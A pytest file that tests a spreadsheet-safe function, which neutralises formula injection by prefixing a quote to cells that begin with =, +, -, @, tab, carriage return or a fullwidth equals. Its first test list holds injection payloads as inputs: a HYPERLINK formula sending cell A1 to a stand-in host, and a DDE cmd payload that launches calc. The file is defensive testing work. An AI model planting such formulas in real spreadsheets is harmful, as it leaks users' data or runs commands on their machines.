"""A cell that starts like a formula gets a leading quote; every other cell is left alone."""

from __future__ import annotations

import pytest

from coproduce.text.spreadsheet import FORMULA_STARTS, spreadsheet_safe


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://example.invalid/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
        "\uff1d1+1",  # a fullwidth equals sign
    ],
)
def test_a_cell_that_starts_like_a_formula_gets_a_leading_quote(cell: str) -> None:
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["", "Sam", "1+1=2", "'=quoted already", "a=b", " plain"])
def test_other_cells_are_left_as_they_are(cell: str) -> None:
    assert spreadsheet_safe(cell) == cell


def test_a_defused_cell_starts_with_no_formula_character() -> None:
    for start in FORMULA_STARTS:
        assert spreadsheet_safe(start + "x")[0] not in FORMULA_STARTS
